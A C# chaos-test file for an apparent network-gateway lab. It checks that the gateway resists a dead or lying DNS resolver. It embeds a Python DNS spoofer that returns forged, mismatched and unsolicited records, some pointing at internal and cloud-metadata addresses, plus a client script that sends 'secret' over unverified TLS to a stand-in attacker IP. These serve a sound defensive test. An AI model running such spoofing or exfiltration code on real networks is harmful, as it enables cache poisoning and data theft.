using Exeat.Lab.Tests.Running;
using Exeat.Lab.Topology;

namespace Exeat.Lab.Tests.Chaos;

/// <summary>The resolver that the gateway asks is gone, or lies (I1, I3).</summary>
[Collection(ChaosGroup.Name)]
public sealed class ResolverFaultTests(ChaosLab lab)
{
    // To every question: an answer with another id, one to another question, and one that leads to the machine itself, an internal address and the metadata service, with records that nobody asked for.
    private const string Liar = """
        import select, socket, struct, sys
        sockets = []
        for family, address in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):
            s = socket.socket(family, socket.SOCK_DGRAM)
            if family == socket.AF_INET6: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            s.bind((address, 5300)); sockets.append(s)
        EVIL = {1: ['203.0.113.66'], 28: ['2001:db8:f::66']}; LIES = {1: ['127.0.0.1', '10.20.0.5', '169.254.169.254'], 28: ['::1', 'fd00:20::5', '::ffff:10.20.0.5']}
        def record(name, kind, text): return name + struct.pack('>HHIH', kind, 1, 3600, 4 if kind == 1 else 16) + socket.inet_pton(socket.AF_INET if kind == 1 else socket.AF_INET6, text)
        def message(ident, question, answers, more): return struct.pack('>HHHHHH', ident, 0x8180, 1, len(answers), 0, len(more)) + question + b''.join(answers) + b''.join(more)
        print('ready', flush=True)
        while True:
            for s in select.select(sockets, [], [])[0]:
                data, who = s.recvfrom(4096)
                ident = struct.unpack('>H', data[:2])[0]; end = 12
                while data[end]: end += data[end] + 1
                name, kind = data[12:end + 1], struct.unpack('>H', data[end + 1:end + 3])[0]
                question, other = data[12:end + 5], b'\5other\7example\0'
                if kind not in EVIL: continue
                evil = [record(b'\xc0\x0c', kind, a) for a in EVIL[kind]]
                s.sendto(message(ident ^ 1, question, evil, []), who)
                s.sendto(message(ident, other + question[-4:], [record(other, kind, EVIL[kind][0])], []), who)
                unasked = record(b'\10openclaw\2ai\0', kind, EVIL[kind][0])
                s.sendto(message(ident, question, [record(b'\xc0\x0c', kind, a) for a in LIES[kind]] + [unasked], [unasked]), who)
        """;

    private const string Believer = """
        import socket, ssl
        tls = ssl._create_unverified_context(); found = 0
        for i in range(3):
            name = f'lie-{i}.openclaw.ai'
            for family, there in ((socket.AF_INET, ('203.0.113.66', '10.20.0.5')), (socket.AF_INET6, ('2001:db8:f::66', 'fd00:20::5'))):
                try: found += len(socket.getaddrinfo(name, 443, family))
                except OSError: pass
                for to in there:
                    try:
                        s = socket.socket(family); s.settimeout(1); s.connect((to, 443)); tls.wrap_socket(s, server_hostname=name).sendall(b'secret')
                        print('reached', to)
                    except OSError: pass
        print('found', found)
        """;

    [Fact]
    public Task Upstream_resolver_dead() => lab.BreakAsync("upstream resolver dead", async traffic =>
    {
        // What is remembered goes on meanwhile.
        double now = Supervisor.Now;
        Task gone = Faults.LoseUpstreamAsync(lab, 2.5);
        await Faults.PauseAsync(0.3);
        Finished unknown = await lab.RunAsync("coding-1", "dig", "@198.51.100.53", "+time=2", "+tries=1", "+noall", "+comments", "www.unknown.openclaw.ai", "A");
        Assert.DoesNotContain("NOERROR", unknown.Output, StringComparison.Ordinal);
        Assert.True(await traffic.FlowsAsync(now + 0.3, ChaosLab.Recovery), traffic.Missing(now));
        await gone;
    });

    [Fact]
    public Task Upstream_resolver_lies() => lab.BreakAsync("upstream resolver lies", async _ =>
    {
        lab.Write(RunningLab.PolicyFile, ChaosLab.TrafficPolicy().Replace("names: [openclaw.ai]", "names: [openclaw.ai, \"*.openclaw.ai\"]", StringComparison.Ordinal));
        await Faults.PauseAsync(0.7);
        await using LabProcess liar = await LabProcess.StartAsync(
            lab.Network.Inside(LabPlan.World, "python3", "-u", "-c", Liar), Path.Combine(lab.State.Folder, "liar.log"), TimeSpan.FromSeconds(10));
        await Subprocess.DemandAsync(lab.Network.Inside(LabPlan.World, "/usr/sbin/nft", "-f", "-"), """
            table inet lie {
              chain turned {
                type nat hook prerouting priority -100; policy accept;
                ip daddr 198.51.100.54 udp dport 53 redirect to :5300
                ip6 daddr 2001:db8:53::54 udp dport 53 redirect to :5300
              }
            }

            """);
        Finished believed = await lab.RunAsync("research-1", "python3", "-c", Believer);
        await Faults.InWorldAsync(lab, "/usr/sbin/nft", "delete", "table", "inet", "lie");
        Assert.True(believed.Succeeded, believed.LastLine);
        Assert.Equal("found 0", believed.Output.Trim());
        Assert.Contains(new Flows.JournalReader(lab.State.Journal).Read(), e => e.Names.Any(n => n.Name == "lie-0.openclaw.ai"));
        lab.Write(RunningLab.PolicyFile, ChaosLab.TrafficPolicy());
        await Faults.PauseAsync(0.5);
    });
}
